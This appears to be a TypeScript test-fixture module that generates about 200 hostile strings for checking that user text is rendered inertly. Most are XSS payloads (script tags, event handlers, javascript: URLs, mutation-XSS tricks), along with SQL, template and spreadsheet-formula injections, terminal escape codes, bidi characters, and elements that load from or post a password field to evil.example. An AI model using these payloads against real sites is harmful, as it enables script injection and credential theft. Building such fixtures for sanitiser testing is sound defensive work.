/** Two hundred texts that are meant to be more than text. */

/** Set by whatever of them is run. */
export const RUN = "hostileHasRun";
/** The attribute of every element that they would make. */
export const MADE = "data-hostile";

const CODE = `window.${RUN}=1;alert(1)`;
const M = `${MADE}=1`;

const ELEMENTS = [
  `<script ${M}>${CODE}</script>`,
  `<ScRiPt ${M} src=//evil.example/x.js></ScRiPt>`,
  `<scr<script ${M}>ipt>${CODE}</scr</script>ipt>`,
  `<img ${M} src=https://evil.example/x.png>`,
  `<img ${M} src=x onerror="${CODE}">`,
  `<svg ${M} onload="${CODE}"></svg>`,
  `<svg ${M}><animate onbegin="${CODE}" attributeName=x dur=1s></svg>`,
  `<svg ${M}><script>${CODE}</script></svg>`,
  `<iframe ${M} src="javascript:${CODE}"></iframe>`,
  `<iframe ${M} srcdoc="<script>parent.${RUN}=1</script>"></iframe>`,
  `<object ${M} data="javascript:${CODE}"></object>`,
  `<embed ${M} src="https://evil.example/x">`,
  `<a ${M} href="javascript:${CODE}">сюда</a>`,
  `<a ${M} href=" java&#10;script:${CODE}">сюда</a>`,
  `<form ${M} action="https://evil.example/"><input name=password></form>`,
  `<button ${M} formaction="javascript:${CODE}">отправить</button>`,
  `<input ${M} autofocus onfocus="${CODE}">`,
  `<details ${M} open ontoggle="${CODE}">подробнее</details>`,
  `<video ${M}><source onerror="${CODE}"></video>`,
  `<body ${M} onload="${CODE}">`,
  `<meta ${M} http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base ${M} href="https://evil.example/">`,
  `<link ${M} rel=stylesheet href="https://evil.example/x.css">`,
  `<style ${M}>*{display:none}</style>`,
  `<math ${M}><mtext><table><mglyph><style><img src=x onerror="${CODE}">`,
  `<template ${M}><img src=x onerror="${CODE}"></template>`,
  `<noscript ${M}><p title="</noscript><img ${M} src=x onerror=${CODE}>">`,
  `<div ${M} style="position:fixed;inset:0;background:red">накрыто</div>`,
  `<p ${M} popover=auto id=me>меню</p>`,
  `<marquee ${M} onstart="${CODE}">бегом</marquee>`,
];

const CLOSERS = [`">`, `'>`, `</textarea>`, `</title>`, `</option></select>`, `-->`, `]]>`, `</script>`];

const BIDI = ["\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u200f", "\u061c", "\u2068"];
const HIDDEN = ["\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2063", "\ufff9"];
const CONTROLS = [
  "\u001b[31m",
  "\u001b]0;title\u0007",
  "\u001b]52;c;aGk=\u0007",
  "\u0008\u0008",
  "\u009b2J",
  "\u0085",
  "\u000b",
  "\u2028",
];
const EMOJI = ["👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇷🇺", "1️⃣", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "❤️‍🔥", "🧑🏿‍🚀"];

const OTHERS = [
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= 7*7 %>",
  "#{7*7}",
  "{% include 'x' %}",
  "%s%s%n",
  "'; drop table items; --",
  '" or 1=1 --',
  "1' union select password from users --",
  '=HYPERLINK("https://evil.example","сюда")',
  "+7+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  "-2+3",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x&#62;",
  "&amp;amp;lt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003e",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "https://evil.example/?q=<x>",
  "строка\nстрока\r\nстрока\rстрока\tстрока",
  "\n\n\n\nпустые строки\n\n\n",
  "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c".repeat(9),
  "непарный \ud83d знак",
  "\udc00 и здесь",
  "אבגדה שלום 123 (текст)",
  "مرحبا بالعالم 456 [текст]",
  "Ж".repeat(3000),
  "очень ".repeat(500),
  "__proto__",
  "constructor",
];

/** A megabyte without a space, with a tag at its end. */
export const MEGABYTE = `${"щ".repeat(500_000)}<script ${M}>${CODE}</script>`;

export const HOSTILE: readonly string[] = [
  ...ELEMENTS,
  ...ELEMENTS.flatMap((element, at) => [CLOSERS[at % 8] + element, `Отлично! ${element.toUpperCase()}`]),
  ...[...BIDI, ...HIDDEN, ...CONTROLS].flatMap((sign) => [
    `Рубашка ${sign}за 100 рублей`,
    `${sign}<b ${M}>${sign}${sign}жирно</b>`,
  ]),
  ...EMOJI.map((emoji) => `Спасибо ${emoji} за брюки`),
  ...OTHERS,
  ...Array.from(
    { length: 32 },
    (_, at) => `${CLOSERS[at % 8]}${BIDI[(at + 3) % 8]}<i ${M} onclick=${CODE}>${EMOJI[at % 8]}`,
  ),
].slice(0, 200);
